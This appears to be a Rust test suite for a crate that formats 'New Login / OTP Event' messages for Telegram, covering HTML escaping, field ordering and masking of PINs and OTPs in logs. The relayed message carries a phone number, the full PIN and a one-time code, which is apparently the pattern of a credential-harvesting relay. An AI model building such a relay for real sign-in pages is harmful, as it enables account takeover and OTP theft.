use login_notifier::telegram::format::{
    build_message, esc_html, mask, mask_value, masked_payload, payload_log_string, to_safe_string,
};
use serde_json::json;

/// Tests for the message formatting logic
/// These tests verify that section ordering and escaping remain consistent.

#[test]
fn test_esc_html_escapes_markup_characters() {
    assert_eq!(esc_html("<script>"), "&lt;script&gt;");
    assert_eq!(esc_html("a & b"), "a &amp; b");
    assert_eq!(esc_html("say \"hi\""), "say &quot;hi&quot;");

    // Ampersand is escaped first, so pre-existing entities are re-escaped
    // rather than left ambiguous
    assert_eq!(esc_html("&lt;"), "&amp;lt;");
}

#[test]
fn test_esc_html_is_identity_on_clean_input() {
    let clean = "2024-01-01T00:00:00Z plain text, no markup";
    assert_eq!(esc_html(clean), clean);
    assert_eq!(esc_html(&esc_html(clean)), clean);
}

#[test]
fn test_mask_redacts_all_but_last_two_characters() {
    assert_eq!(mask(""), "");
    assert_eq!(mask("a"), "*");
    assert_eq!(mask("ab"), "**");
    assert_eq!(mask("abcd"), "**cd");
    assert_eq!(mask("123456"), "****56");
}

#[test]
fn test_to_safe_string_handles_all_value_kinds() {
    assert_eq!(to_safe_string(&json!(null)), "");
    assert_eq!(to_safe_string(&json!("text")), "text");
    assert_eq!(to_safe_string(&json!(42)), "42");
    assert_eq!(to_safe_string(&json!(true)), "true");
    assert_eq!(to_safe_string(&json!({"bar": 1})), "{\"bar\":1}");
    assert_eq!(to_safe_string(&json!([1, 2])), "[1,2]");
}

#[test]
fn test_message_sections_appear_in_order() {
    let payload = json!({
        "loginPhone": "555-1234",
        "loginPin": "1234",
        "submittedAt": "2024-01-01T00:00:00Z"
    });

    let text = build_message(&payload);

    let title = text.find("New Login / OTP Event").expect("missing title");
    let time = text
        .find("<b>Time:</b> 2024-01-01T00:00:00Z")
        .expect("missing time line");
    let heading = text.find("<b>Login Details</b>").expect("missing heading");
    let phone = text.find("<b>Phone:</b> 555-1234").expect("missing phone");
    let pin = text.find("<b>PIN:</b> 1234").expect("missing pin");

    assert!(title < time, "title should precede the time line");
    assert!(time < heading, "time should precede the login details heading");
    assert!(heading < phone, "heading should precede the phone line");
    assert!(phone < pin, "phone should precede the pin line");
}

#[test]
fn test_empty_payload_produces_minimal_message() {
    let text = build_message(&json!({}));
    assert_eq!(text, "<b>New Login / OTP Event</b>\n\n");
}

#[test]
fn test_device_value_is_stringified() {
    let text = build_message(&json!({ "device": 42 }));
    assert!(text.contains("<b>Device:</b> 42"));
}

#[test]
fn test_extra_object_renders_as_json_under_other_data() {
    let payload = json!({ "foo": { "bar": 1 } });
    let text = build_message(&payload);

    assert!(text.contains("<b>Other Data</b>"));
    assert!(
        text.contains("<b>foo:</b> {&quot;bar&quot;:1}"),
        "extra object should render as escaped JSON, got: {text}"
    );
}

#[test]
fn test_extra_keys_keep_insertion_order() {
    let payload = serde_json::from_str::<serde_json::Value>(r#"{"zeta": 1, "alpha": 2}"#)
        .expect("valid JSON");
    let text = build_message(&payload);

    let zeta = text.find("<b>zeta:</b>").expect("missing zeta");
    let alpha = text.find("<b>alpha:</b>").expect("missing alpha");
    assert!(zeta < alpha, "extras should render in the order received");
}

#[test]
fn test_outbound_message_never_carries_live_markup() {
    let payload = json!({ "loginPin": "<script>" });
    let text = build_message(&payload);

    assert!(text.contains("&lt;script&gt;"));
    assert!(
        !text.contains("<script>"),
        "caller-supplied markup must be escaped"
    );
}

#[test]
fn test_null_recognized_fields_are_skipped() {
    let payload = json!({ "submittedAt": null, "otp": null });
    let text = build_message(&payload);

    assert!(!text.contains("Time:"));
    assert!(!text.contains("OTP:"));
}

#[test]
fn test_masked_payload_redacts_pin_and_otp_only() {
    let payload = json!({
        "loginPin": "1234",
        "otp": "987654",
        "loginPhone": "555-1234"
    });

    let masked = masked_payload(&payload);

    assert_eq!(masked["loginPin"], "**34");
    assert_eq!(masked["otp"], "****54");
    assert_eq!(masked["loginPhone"], "555-1234");
}

#[test]
fn test_masked_payload_leaves_null_fields_untouched() {
    let payload = json!({ "loginPin": null, "otp": "987654" });
    let masked = masked_payload(&payload);

    assert!(
        masked["loginPin"].is_null(),
        "a null field should keep its shape in the log record"
    );
    assert_eq!(masked["otp"], "****54");
}

#[test]
fn test_mask_value_redacts_falsy_values_to_empty() {
    assert_eq!(mask_value(&json!(0)), "");
    assert_eq!(mask_value(&json!(false)), "");
    assert_eq!(mask_value(&json!("")), "");
    assert_eq!(mask_value(&json!("1234")), "**34");
    assert_eq!(mask_value(&json!(987654)), "****54");
}

#[test]
fn test_payload_log_string_never_contains_raw_secrets() {
    let payload = json!({ "loginPin": "1234", "otp": "987654" });
    let logged = payload_log_string(&payload);

    assert!(!logged.contains("\"1234\""));
    assert!(!logged.contains("\"987654\""));
    assert!(logged.contains("**34"));
    assert!(logged.contains("****54"));
}
